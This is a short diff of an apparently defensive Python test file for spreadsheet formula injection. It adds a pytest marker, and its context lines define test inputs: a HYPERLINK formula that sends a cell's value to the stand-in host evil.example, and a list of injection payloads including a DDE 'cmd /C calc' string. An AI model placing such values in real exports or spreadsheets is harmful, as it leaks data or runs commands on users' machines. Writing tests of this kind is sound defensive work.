@@ -26,6 +26,8 @@ from tests.safeops.factories import (
 )
 from tests.safeops.training.helpers import seed
 
+pytestmark = pytest.mark.shared_scenario
+
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 DANGEROUS = (EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\tcmd", "\r=1")
 
